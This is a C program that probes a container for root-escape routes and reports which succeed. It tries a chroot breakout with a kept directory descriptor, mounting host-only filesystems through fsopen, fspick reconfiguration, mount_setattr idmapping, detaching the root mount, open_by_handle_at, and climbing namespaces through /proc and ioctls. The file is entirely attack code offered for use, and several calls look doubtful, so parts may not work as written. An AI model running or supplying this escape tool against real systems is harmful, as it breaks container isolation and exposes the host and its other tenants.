/* escape: ways out of a container's root that have worked somewhere once.  Prints what worked, then "done". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
enum { OPEN_TREE = 428, MOVE_MOUNT, FSOPEN, FSCONFIG, FSMOUNT, FSPICK, MOUNT_SETATTR = 442, LISTMOUNT = 458 };
static struct stat top;

static void look(const char *how, const char *path) {
    struct stat here;
    if (stat(path, &here)) return;
    if (here.st_dev != top.st_dev || here.st_ino != top.st_ino) printf("%s: another root\n", how);
}

int main(void) {
    stat("/", &top);
    /* chroot, and up with a directory kept open */
    int kept = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0755);
    if (!chroot("/tmp/jail")) {
        fchdir(kept);
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
        look("chroot", "/");
    }
    look("dot dot", "/../../../../..");
    look("proc root", "/proc/1/root");
    /* file systems that only the node's root may mount */
    const char *kinds[] = {"ext4", "xfs", "btrfs", "vfat", "iso9660", "devtmpfs", "debugfs", "tracefs", "securityfs", "bpf", "configfs", "pstore", "efivarfs", "hugetlbfs", "nfs", "9p", "squashfs"};
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        int fd = syscall(FSOPEN, kinds[i], 0);
        if (fd < 0) continue;
        syscall(FSCONFIG, fd, 1, "source", "/dev/root", 0);
        if (!syscall(FSCONFIG, fd, 6, 0, 0, 0) && syscall(FSMOUNT, fd, 0, 0) >= 0) printf("fsopen %s: mounted\n", kinds[i]);
        close(fd);
    }
    /* the super block of the root, and the attributes that came from the node */
    int picked = syscall(FSPICK, AT_FDCWD, "/", 0);
    if (picked >= 0 && !syscall(FSCONFIG, picked, 1, "lowerdir", "/", 0) && !syscall(FSCONFIG, picked, 7, 0, 0, 0)) puts("fspick: reconfigured");
    unsigned long attr[4] = {0x100000, 0, 0, open("/proc/self/ns/user", O_RDONLY)};
    int tree = syscall(OPEN_TREE, AT_FDCWD, "/", 1);
    if (tree >= 0 && !syscall(MOUNT_SETATTR, tree, "", 0x1000, attr, sizeof attr)) puts("mount_setattr: idmapped again");
    /* the mount above: what lies under the root of the mount namespace */
    for (int i = 0; i < 3; i++)
        if (!umount2("/", MNT_DETACH)) { chdir("/"); look("umount", "/"); }
    /* handles */
    struct { struct file_handle handle; char data[128]; } f = {{128}};
    int id;
    if (!name_to_handle_at(AT_FDCWD, "/", &f.handle, &id, 0) && open_by_handle_at(kept, &f.handle, O_RDONLY) >= 0) puts("open_by_handle_at: opened");
    /* namespaces of whoever can be seen, and those of their own that lead up */
    DIR *proc = opendir("/proc");
    char own[64], other[64], path[320];
    const char *names[] = {"mnt", "net", "pid", "ipc", "uts", "cgroup"};
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
        for (int i = 0; i < 6; i++) {
            snprintf(path, sizeof path, "/proc/self/ns/%s", names[i]);
            own[readlink(path, own, 63) > 0 ? 18 : 0] = 0;
            snprintf(path, sizeof path, "/proc/%s/ns/%s", entry->d_name, names[i]);
            other[readlink(path, other, 63) > 0 ? 18 : 0] = 0;
            if (*other && strncmp(own, other, 14)) printf("%s: a foreign namespace\n", path);
        }
    }
    int user = open("/proc/self/ns/user", O_RDONLY);
    if (ioctl(user, 0xb702) >= 0) puts("NS_GET_PARENT: got");
    int net = open("/proc/self/ns/net", O_RDONLY), owner = ioctl(net, 0xb701);
    if (owner >= 0 && ioctl(owner, 0xb702) >= 0) puts("NS_GET_USERNS: parent");
    puts("done");
    return 0;
}
